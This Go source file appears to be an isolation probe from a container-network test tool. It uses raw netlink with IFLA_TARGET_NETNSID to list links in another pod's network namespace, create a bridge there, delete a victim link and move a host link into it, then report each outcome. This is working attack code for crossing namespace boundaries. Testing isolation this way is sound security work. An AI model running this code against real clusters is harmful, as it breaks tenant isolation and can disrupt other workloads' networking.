package main

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"syscall"

	"golang.org/x/sys/unix"
)

// trespassTarget is what the trespass attack reads on stdin: the id the
// host's network namespace gives another network's pod, and links there
// and on the host to work on.
type trespassTarget struct {
	NSID     int32  `json:"victim_nsid"`
	Link     string `json:"victim_link"` // a link in the victim to delete
	HostLink string `json:"host_link"`   // a host link to move into the victim
}

// trespass reaches another pod's network namespace through the id the
// host's namespace holds for it, from the host's namespace, holding no
// file of that pod: it lists the pod's links (IFLA_TARGET_NETNSID on a
// dump), makes a bridge in it, deletes a link there by name, and moves
// a host link into it (IFLA_TARGET_NETNSID on RTM_SETLINK, then on a new
// link's IFLA_LINK_NETNSID). Each outcome is "ok" or the errno; a list
// says how many links it read.
func trespass() map[string]string {
	r := map[string]string{}
	var t trespassTarget
	b, _ := io.ReadAll(os.Stdin)
	if err := json.Unmarshal(b, &t); err != nil {
		r["stdin"] = err.Error()
		return r
	}
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		r["socket"] = outcome(err)
		return r
	}
	defer unix.Close(fd)
	target := nlAttr(unix.IFLA_TARGET_NETNSID, binary.NativeEndian.AppendUint32(nil, uint32(t.NSID)))

	n, err := nlDump(fd, unix.RTM_GETLINK, ifinfo(0), target)
	if err != nil {
		r["list links by id"] = outcome(err)
	} else {
		r["list links by id"] = fmt.Sprintf("%d links", n)
	}
	r["make a link by id"] = outcome(nlDo(fd, unix.RTM_NEWLINK, unix.NLM_F_CREATE|unix.NLM_F_EXCL, ifinfo(0),
		nlAttr(unix.IFLA_IFNAME, []byte("kttrespass0\x00")),
		nlAttr(unix.IFLA_LINKINFO, nlAttr(unix.IFLA_INFO_KIND, []byte("bridge"))),
		target))
	r["delete a link by id"] = outcome(nlDo(fd, unix.RTM_DELLINK, 0, ifinfo(0),
		nlAttr(unix.IFLA_IFNAME, append([]byte(t.Link), 0)), target))
	if idx, err := ifindex(t.HostLink); err == nil {
		r["move a host link by id"] = outcome(nlDo(fd, unix.RTM_SETLINK, 0, ifinfo(idx), target))
	} else {
		r["move a host link by id"] = outcome(err)
	}
	return r
}

func ifindex(name string) (int32, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)
	req, err := unix.NewIfreq(name)
	if err != nil {
		return 0, err
	}
	if err := unix.IoctlIfreq(fd, unix.SIOCGIFINDEX, req); err != nil {
		return 0, err
	}
	return int32(req.Uint32()), nil
}

func ifinfo(index int32) []byte {
	b := make([]byte, unix.SizeofIfInfomsg)
	binary.NativeEndian.PutUint32(b[4:], uint32(index))
	return b
}

func nlAttr(typ uint16, value []byte) []byte {
	b := binary.NativeEndian.AppendUint16(nil, uint16(4+len(value)))
	b = binary.NativeEndian.AppendUint16(b, typ)
	b = append(b, value...)
	for len(b)%4 != 0 {
		b = append(b, 0)
	}
	return b
}

func nlMessage(typ, flags uint16, parts ...[]byte) []byte {
	var body []byte
	for _, p := range parts {
		body = append(body, p...)
	}
	b := binary.NativeEndian.AppendUint32(nil, uint32(16+len(body)))
	b = binary.NativeEndian.AppendUint16(b, typ)
	b = binary.NativeEndian.AppendUint16(b, flags|unix.NLM_F_REQUEST)
	b = binary.NativeEndian.AppendUint32(b, 1)
	b = binary.NativeEndian.AppendUint32(b, 0)
	return append(b, body...)
}

// nlDo sends one request asking for an ack and returns its error.
func nlDo(fd int, typ, flags uint16, parts ...[]byte) error {
	if err := unix.Sendto(fd, nlMessage(typ, flags|unix.NLM_F_ACK, parts...), 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	buf := make([]byte, 1<<16)
	for {
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			return err
		}
		msgs, err := syscall.ParseNetlinkMessage(buf[:n])
		if err != nil {
			return err
		}
		for _, m := range msgs {
			if m.Header.Type == unix.NLMSG_ERROR && len(m.Data) >= 4 {
				if code := int32(binary.NativeEndian.Uint32(m.Data)); code != 0 {
					return syscall.Errno(-code)
				}
				return nil
			}
		}
	}
}

// nlDump sends a dump request and counts the answers.
func nlDump(fd int, typ uint16, parts ...[]byte) (int, error) {
	if err := unix.Sendto(fd, nlMessage(typ, unix.NLM_F_DUMP, parts...), 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return 0, err
	}
	buf := make([]byte, 1<<16)
	count := 0
	for {
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			return count, err
		}
		msgs, err := syscall.ParseNetlinkMessage(buf[:n])
		if err != nil {
			return count, err
		}
		for _, m := range msgs {
			switch m.Header.Type {
			case unix.NLMSG_DONE:
				return count, nil
			case unix.NLMSG_ERROR:
				if len(m.Data) >= 4 {
					if code := int32(binary.NativeEndian.Uint32(m.Data)); code != 0 {
						return count, syscall.Errno(-code)
					}
				}
				return count, nil
			default:
				count++
			}
		}
	}
}
